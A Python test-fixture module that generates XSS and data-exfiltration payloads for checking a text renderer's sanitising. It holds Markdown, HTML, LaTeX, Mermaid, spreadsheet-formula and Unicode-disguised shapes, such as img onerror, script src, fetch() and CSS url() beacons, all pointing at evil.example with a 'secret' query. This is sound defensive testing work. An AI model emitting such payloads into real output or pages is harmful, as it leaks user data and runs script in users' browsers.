"""Texts that try to become a link, a picture, an icon, a formula or a script (PROMISES I01, I06).

Every shape takes several addresses in turn, so that each address stands in most shapes without every pair being drawn.
"""

from __future__ import annotations

EVIL = "evil.example"
_SCHEMES = [
    "http://",
    "https://",
    "HtTpS://",
    "//",
    "\\\\",
    "ftp://",
    "file://",
    "data:text/html;base64,",
    "javascript:alert(1)//",
    "java\tscript:alert(1)//",
    "vbscript:",
]
_ADDRESSES = [f"{scheme}{EVIL}/x?q=secret" for scheme in _SCHEMES]
_ADDRESSES_EACH = 6

_MARKDOWN = [
    "{0}",
    "<{0}>",
    "[click]({0})",
    "[click]({0} 'title')",
    "[click](<{0}>)",
    "![picture]({0})",
    "![picture][ref]\n\n[ref]: {0}",
    '[click][ref]\n\n[ref]: {0} "t"',
    "[ref][] [ref]\n\n[ref]: <{0}> (t)",
    "[![picture]({0})]({0})",
    '[a [b](x) ![c]({0})]({0} "![d]({0})")',
    "text[^1]\n\n[^1]: {0}",
    "| a | b |\n|---|---|\n| ![p]({0}) | [l]({0}) |",
    "# heading [l]({0})",
    "heading ![p]({0})\n===\n[l]({0})\n---",
    "- item ![p]({0})",
    "1. item [l]({0})",
    "> quote [l]({0})",
    "> - 1. ![nested]({0})",
    "    ![p]({0})",
    "```\n{0}\n```\n![p]({0})",
    "`code`![p]({0})`",
    "**[l]({0})** _![p]({0})_ ~~[l]({0})~~",
    "![p]({0}){{width=1 style=background:url({0})}}",
    ":::note [l]({0}) :::",
    ":red[![p]({0})] :blue-background[[l]({0})]",
    ":color[text]{{foreground={0} background={0}}}",
    "$\\href{{{0}}}{{x}}$ $$\\includegraphics{{{0}}}$$",
    "$\\htmlStyle{{background:url({0})}}{{x}}$ $$\\url{{{0}}}$$",
    "\\[click\\]({0}) \\![p]({0}) \\\\![p]({0})",
    "[click]\\({0}) [cl\nick]({0})",
    '```mermaid\ngraph TD; A-->B; click A "{0}"\n```',
]
_HTML = [
    "<img src={0}>",
    "<img src='{0}' onerror=alert(1)>",
    "<img srcset='{0} 1x, {0} 2x'><picture><source srcset='{0}'></picture>",
    "<a href='{0}'>l</a>",
    "<a href='{0}' ping='{0}' target=_top download>l</a>",
    "<svg onload=alert(1)><image href='{0}'/></svg>",
    "<svg><use href='{0}#x'/><script href='{0}'/><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><style>*{{fill:url({0})}}</style><foreignObject><img src='{0}'></foreignObject></svg>",
    "<math><mtext href='{0}' xlink:href='{0}'>x</mtext></math>",
    "<style>@import '{0}'; body{{background:url({0})}}</style>",
    "<div style=\"background:url('{0}')\">x</div><p style=list-style:url({0})>y</p>",
    "<table background='{0}'><td background='{0}'>x</td></table>",
    "<iframe src='{0}'></iframe><iframe srcdoc=\"<img src='{0}'>\"></iframe>",
    "<script src='{0}'></script>",
    "<object data='{0}'></object><embed src='{0}'><video src='{0}' poster='{0}'><audio src='{0}'>",
    "<link rel=stylesheet href='{0}'><link rel=prefetch href='{0}'><meta http-equiv=refresh content='0;url={0}'>",
    "<base href='{0}'><a href=x>l</a>",
    "<form action='{0}'><input name=q autofocus onfocus=alert(1)><button formaction='{0}'>b</button></form>",
    "<details open ontoggle=alert(1)><summary>{0}</summary></details><input type=image src='{0}'>",
    "<body onload=\"fetch('{0}')\"><template shadowrootmode=open><img src='{0}'></template>",
    "<!--><img src={0}>--><![CDATA[<img src={0}>]]><?xml-stylesheet href='{0}'?>",
    '<noscript><p title="</noscript><img src={0}>"></p>',
    "<<img src={0}//<a\nhref={0}>l</a\n>",
    "</blockquote></div><h1><a href={0}>l</a></h1>",
]
_DISGUISED = [
    "&#91;click&#93;({0}) &lt;img src={0}&gt;",
    "&#x5b;l&#x5d;&#x28;{0}&#x29; &amp;lt;img src={0}&amp;gt; &excl;&lbrack;p&rbrack;&lpar;{0}&rpar;",
    "\u202e[click]({0})\u202c ! \u200b[p]({0})",
    "\u2066![p]({0})\u2069 \u061c[l]({0}) [cli\u00adck]({0})",
    "［click］（{0}） ！［p］（{0}） ＜img src={0}＞",
    "!\ufe0f[p]({0}) [l]\u2060({0}) [l]\u00a0({0})",
    "[[{0}|click]] <{0}|click> [[{0}]]",
    '[url={0}]l[/url] [img]{0}[/img] "click":{0} !{0}!',
    '=HYPERLINK("{0}") @import \'{0}\'; {{"type":"image","url":"{0}"}}',
]
_FIXED = [
    "www.evil.example WWW.evil.example wWw.evil.example/x",
    "someone@evil.example mailto:someone@evil.example xmpp:a@evil.example",
    ":smile: :+1: :-1: :material/home: :material_home: :streamlit: \\:smile\\: :material\\/home:",
    ":red[red] :rainbow[x] :small[x] :shimmer[x] :help[x] :primary-badge[x] :gray[]",
    "a -> b <- c <-> d -- e >= f <= g ~= h",
    "# one\n## two\n- a\n* b\n+ c\n1. d\n2) e\n> f\n***\n---\n===\n\tcode\n~~strike~~ **bold** _it_ ==x==",
    "$x^2$ $$y$$ \\(z\\) costs $5 and $6",
    "- [ ] task\n- [x] done",
    "```mermaid\ngraph TD; A-->B\n```",
    "xn--evil-9za.example http://xn--80ak6aa92e.com",
    "http://еvil.example http://evil。example http://3232235777 http://[::ffff:7f00:1]",
    "h\u200bttp://evil.example ht\u00adtp://evil.example",
    "\u0000\u0007\u001b[31mred\u001b[0m\u2028line\u2029line",
    "{0} {name} %s {{7*7}} ${7*7} #{7*7}",
]
_SHAPES = _MARKDOWN + _HTML + _DISGUISED
PAYLOADS = [
    shape.format(_ADDRESSES[(place + turn) % len(_ADDRESSES)])
    for turn in range(_ADDRESSES_EACH)
    for place, shape in enumerate(_SHAPES)
] + _FIXED
ONE_OF_EACH = PAYLOADS[: len(_SHAPES)]
